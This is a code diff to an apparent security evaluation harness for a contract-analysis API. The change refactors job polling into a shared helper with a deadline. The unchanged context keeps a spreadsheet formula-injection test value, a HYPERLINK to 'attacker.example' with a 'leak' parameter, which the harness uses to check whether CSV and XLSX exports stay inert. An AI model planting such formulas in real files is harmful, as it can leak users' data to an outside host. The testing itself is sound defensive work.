@@ -30,11 +30,13 @@ import httpx
 
 from clausewise.core.config import Settings, with_overrides
 from clausewise.core.progress import NoProgress, Progress
-from clausewise.evals.processes import ServeProcess
+from clausewise.evals.processes import ServeProcess, ended_job
 from clausewise.service.keys import KeyStore
 
 SECONDS = 900.0
 EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+#: The longest wait for one job of a family (or of the set-up) to end.
+JOB_SECONDS = 300.0
 #: How soon a stream must end once its key is revoked (the stream re-checks its key every second).
 REVOKED_STREAM_SECONDS = 3.0
 SERVER_LIMITS = [
@@ -92,16 +94,6 @@ _FORMULA = '=HYPERLINK("http://attacker.example/?leak","click")'
 _FORMULA_START = ("=", "+", "-", "@")
 
 
-def finished(client: httpx.Client, job_id: str, seconds: float = 300.0) -> dict[str, Any]:
-    """The job once it has ended (polled)."""
-    deadline = time.monotonic() + seconds
-    while True:
-        job = client.get(f"/v1/jobs/{job_id}").json()
-        if job["status"] in ("done", "failed", "cancelled") or time.monotonic() > deadline:
-            return job
-        time.sleep(0.2)
-
-
 def live_formulas(csv_text: str, xlsx: bytes) -> int:
     """Cells a spreadsheet would run: CSV cells starting like a formula, XLSX cells typed as one
     (read here with the csv module and openpyxl, not with the product's writer)."""
@@ -148,7 +140,7 @@ def _families(keys: KeyStore) -> list[Family]:
         queued = client.post("/v1/checks", json={"contracts": ["acme-nda"], "hypotheses": [_FORMULA]})
         if queued.status_code != 202:
             return queued.status_code, queued.text
-        job = finished(client, queued.json()["id"])["id"]
+        job = ended_job(client, queued.json()["id"], time.monotonic() + JOB_SECONDS)["id"]
         as_csv = client.get(f"/v1/jobs/{job}/result", params={"format": "csv"})
         as_xlsx = client.get(f"/v1/jobs/{job}/result", params={"format": "xlsx"})
         if as_csv.status_code != 200 or as_xlsx.status_code != 200:
@@ -195,7 +187,7 @@ def _families(keys: KeyStore) -> list[Family]:
             if status != 202:
                 continue
             marker, body = text.split(" ", 1)
-            job = finished(client, json.loads(body)["job"]["id"])
+            job = ended_job(client, json.loads(body)["job"]["id"], time.monotonic() + JOB_SECONDS)
             contract = (job.get("result") or {}).get("contract_id")
             if job["status"] != "done" or contract is None or contract in owners:
                 problems += 1
@@ -319,8 +311,7 @@ def run(
                 "/v1/contracts", files={"file": ("nda.txt", nda)}, data={"contract_id": "acme-nda"}
             )
             job = ingest.json()["job"]["id"]
-            while owner.get(f"/v1/jobs/{job}").json()["status"] not in ("done", "failed", "cancelled"):
-                time.sleep(0.2)
+            ended_job(owner, job, time.monotonic() + JOB_SECONDS)
             poster = owner.post(
                 "/v1/contracts",
                 files={"file": ("poster.pdf", _poster())},
@@ -329,13 +320,8 @@ def run(
             theirs = other.post(
                 "/v1/contracts", files={"file": ("beta.txt", nda)}, data={"contract_id": "beta-nda"}
             ).json()["job"]["id"]
-            for client, waited in ((owner, job), (owner, poster), (other, theirs)):
-                while client.get(f"/v1/jobs/{waited}").json()["status"] not in (
-                    "done",
-                    "failed",
-                    "cancelled",
-                ):
-                    time.sleep(0.2)
+            for client, waited in ((owner, poster), (other, theirs)):
+                ended_job(client, waited, time.monotonic() + JOB_SECONDS)
             before = owner.get("/v1/contracts/acme-nda/text").text
             for family in _families(keys):
                 if time.monotonic() > deadline:
